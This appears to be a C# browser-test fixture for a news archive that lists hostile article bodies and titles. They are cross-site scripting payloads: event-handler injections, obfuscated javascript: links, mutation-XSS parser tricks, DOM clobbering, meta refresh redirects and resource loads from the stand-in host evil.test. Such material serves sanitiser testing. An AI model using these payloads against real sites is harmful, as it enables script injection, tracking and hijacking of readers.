namespace NewsArchive.BrowserTests.Hostile;

/// <summary>
/// Invented articles that try to run script, to ask another host for something or to leave the page. What runs calls
/// <c>ran</c>; what asks, asks a host under <c>evil.test</c>.
/// </summary>
internal static class Attacks
{
    private const string Run = "ran(1)";

    private static readonly string[] Events =
    [
        "onload", "onerror", "onclick", "onmouseover", "onmouseenter", "onfocus", "onfocusin", "onblur", "ontoggle", "onbeforetoggle", "onpointerover", "onpointerenter",
        "onanimationstart", "ontransitionend", "onwheel", "onscroll", "onauxclick", "oncontextmenu", "oncopy", "onkeydown", "onpageshow", "onhashchange", "onloadstart", "oncanplay",
    ];

    private static readonly string[] Links =
    [
        "javascript:ran(1)", "JaVaScRiPt:ran(1)", "java&#9;script:ran(1)", "java&#10;script:ran(1)", "java&#13;script:ran(1)", "&#1;javascript:ran(1)", "&#32;javascript:ran(1)",
        "javascript&colon;ran(1)", "javascript&#58;ran(1)", "&#x6a;avascript:ran(1)", "&#0000106avascript:ran(1)", "javascript&#x0003A;ran(1)", "jav&Tab;ascript:ran(1)",
        "jav&NewLine;ascript:ran(1)", "javascript:%72an(1)", "javascript://evil.test/%0aran(1)", "javascript:&sol;&sol;%0aran(1)", "\u00a0javascript:ran(1)", "\u3000javascript:ran(1)",
        "\ufeffjavascript:ran(1)", "&#8238;javascript:ran(1)", "data:text/html,<script>ran(1)</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "vbscript:ran(1)",
        "view-source:javascript:ran(1)", "blob:http://evil.test/1", "feed:javascript:ran(1)", "javascript\\x3aran(1)",
    ];

    // The parser reads these one way, writes them another, and reads them again in a third.
    private static readonly string[] Mutations =
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>",
        "<svg></p><style><a title=\"</style><img src=x onerror=ran(1)>\">",
        "<svg><style>&lt;img src=x onerror=ran(1)&gt;</style></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=ran(1)>\">",
        "<noframes><p title=\"</noframes><img src=x onerror=ran(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=ran(1)>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=ran(1)>\">",
        "<title><p title=\"</title><img src=x onerror=ran(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=ran(1)>\">",
        "<template><p title=\"</template><img src=x onerror=ran(1)>\">",
        "<select><option><style></option></select><img src=x onerror=ran(1)></style>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=ran(1)></style></annotation-xml></math>",
        "<math><annotation-xml encoding=\"application/xhtml+xml\"><script>ran(1)</script></annotation-xml></math>",
        "<svg><foreignObject><p><style><!--</style><img src=x onerror=ran(1)>--></style></foreignObject></svg>",
        "<svg><desc><noembed></desc></svg><img src=x onerror=ran(1)></noembed>",
        "<svg><title><style><img src=x onerror=ran(1)></style></title></svg>",
        "<table><caption><svg><title><table><caption></caption></table><style><a title=\"</style><img src=x onerror=ran(1)>\"></style></title></svg></caption></table>",
        "<p>&lt;img src=x onerror=ran(1)&gt;", "<p>&amp;lt;img src=x onerror=ran(1)&amp;gt;", "<!--><img src=x onerror=ran(1)>-->", "<!--!><img src=x onerror=ran(1)>-->",
        "<![CDATA[<img src=x onerror=ran(1)>]]>", "<?xml <img src=x onerror=ran(1)>?>", "</ <img src=x onerror=ran(1)>", "<img title=\"`>\" src=`x`onerror=ran(1)>",
        "<a title='\"><img src=x onerror=ran(1)>'>x</a>", "<img alt=\"a\0b\" src=x\0 onerror\0=ran(1)>", "<scr<script>ipt>ran(1)</scr</script>ipt>", "<img/src=x/onerror=ran(1)//>",
        "<isindex type=image src=x onerror=ran(1)>", "<image src=x onerror=ran(1)>", "<plaintext><img src=x onerror=ran(1)>",
    ];

    private static readonly string[] Others =
    [
        "<script>ran(1)</script>", "<script src=https://evil.test/x.js></script>", "<script type=module>ran(1)</script>", "<svg><script>ran(1)</script></svg>", "<svg><script href=data:,ran(1) /></svg>",
        "<svg><a xlink:href=\"javascript:ran(1)\"><text y=20>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:ran(1) /></svg>",
        "<svg><set attributeName=onmouseover to=ran(1) /></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>ran(1)</script></svg>#x\" /></svg>",
        "<svg onload=ran(1)>", "<math href=javascript:ran(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran(1)>x</maction></math>",
        "<iframe srcdoc=\"<script>parent.ran(1)</script>\"></iframe>", "<iframe src=javascript:parent.ran(1)></iframe>", "<iframe src=https://evil.test/></iframe>", "<object data=javascript:ran(1)></object>",
        "<object data=https://evil.test/x.svg></object>", "<embed src=https://evil.test/x.swf>", "<applet code=x codebase=https://evil.test/></applet>", "<frameset onload=ran(1)></frameset>",
        "<body onload=ran(1)>", "<body background=https://evil.test/x.png>", "<form action=javascript:ran(1)><button>x</button></form>", "<button formaction=javascript:ran(1)>x</button>",
        "<input type=image src=https://evil.test/x.png formaction=javascript:ran(1)>", "<input autofocus onfocus=ran(1)>", "<video><source onerror=ran(1)></video>", "<video poster=https://evil.test/x.png src=https://evil.test/x.mp4></video>",
        "<audio src=https://evil.test/x.mp3 autoplay></audio>", "<img src=https://evil.test/pixel.png>", "<img srcset=\"https://evil.test/a.png 1x, https://evil.test/b.png 2x\">",
        "<picture><source srcset=https://evil.test/c.webp><img src=https://evil.test/d.png></picture>", "<img src=x lowsrc=https://evil.test/e.png dynsrc=https://evil.test/f.png>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>\">", "<link rel=stylesheet href=https://evil.test/x.css>", "<link rel=preload as=image href=https://evil.test/x.png>",
        "<link rel=prefetch href=https://evil.test/>", "<link rel=dns-prefetch href=https://evil.test/>", "<style>@import 'https://evil.test/x.css';</style>", "<style>body{background:url(https://evil.test/x.png)}</style>",
        "<p style=\"background:url(https://evil.test/x.png)\">x</p>", "<p style=\"list-style:url(https://evil.test/x.png);display:list-item\">x</p>", "<p style=\"position:fixed;inset:0;z-index:99999\">cover</p>",
        "<style>@font-face{font-family:x;src:url(https://evil.test/x.woff2)}p{font-family:x}</style>", "<style>@keyframes x{}p{animation:x 1s}</style><p onanimationstart=ran(1)>x</p>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test/\">", "<meta http-equiv=refresh content=\"0;url=javascript:ran(1)\">", "<meta http-equiv=set-cookie content=x=y>",
        "<base href=https://evil.test/><a href=/x>x</a><img src=y.png>", "<base target=_parent>", "<table background=https://evil.test/x.png><tr><td background=https://evil.test/y.png>x</td></tr></table>",
        "<a href=https://evil.test/ ping=https://evil.test/ping>x</a>", "<a href=# id=main name=body class=skip>x</a>", "<a id=defaultView></a><a id=defaultView name=ran href=cid:x></a>", "<img name=getElementById src=x>",
        "<form id=x><input name=attributes><input name=parentNode></form>", "<details open ontoggle=ran(1)><summary>x</summary>y</details>", "<dialog open onclose=ran(1)>x</dialog>", "<marquee onstart=ran(1)>x</marquee>",
        "<div contenteditable onfocus=ran(1) tabindex=0 autofocus>x</div>", "<div popover id=p onbeforetoggle=ran(1)>x</div><button popovertarget=p>y</button>", "<slot onslotchange=ran(1)>x</slot>",
        "<portal src=https://evil.test/></portal>", "<fencedframe></fencedframe>", "<bgsound src=https://evil.test/x.wav>", "<img src=x usemap=#m><map name=m><area href=javascript:ran(1) shape=default></map>",
        "<q cite=javascript:ran(1)>x</q><blockquote cite=https://evil.test/>y</blockquote>", "<time datetime=\"2020' onmouseover='ran(1)\">x</time>", "<td colspan=\"2&quot; onclick=&quot;ran(1)\">x</td>",
    ];

    /// <summary>Bodies of articles.</summary>
    public static IReadOnlyList<string> Bodies { get; } =
    [
        .. Events.SelectMany(e => (string[])[$"<img src=x {e}={Run}>", $"<p tabindex=0 autofocus {e}=\"{Run}\">x</p>"]),
        .. Links.Select(link => $"<a href=\"{link}\">x</a>"),
        .. Links.Take(8).Select(link => $"<img src=\"{link}\" alt=\"{link}\">"),
        .. Mutations,
        .. Others,
    ];

    /// <summary>Titles, names of writers, captions and alternative texts: plain text wherever they are shown.</summary>
    public static IReadOnlyList<string> Words { get; } =
    [
        "<img src=x onerror=ran(1)>", "\"><img src=x onerror=ran(1)>", "</title><script>ran(1)</script>", "</script><script>ran(1)</script>", "&lt;img src=x onerror=ran(1)&gt;", "' onmouseover='ran(1)",
        "]]><script>ran(1)</script>", "--><img src=x onerror=ran(1)>", "{{constructor.constructor('ran(1)')()}}", "${ran(1)}", "javascript:ran(1)", "\u202e<script>ran(1)</script>\u2028\u2029",
    ];

    /// <summary>Whether a policy cannot stop it: no directive forbids a document to send its reader away.</summary>
    public static bool IsNavigation(string body) => body.Contains("http-equiv=refresh", StringComparison.Ordinal);
}
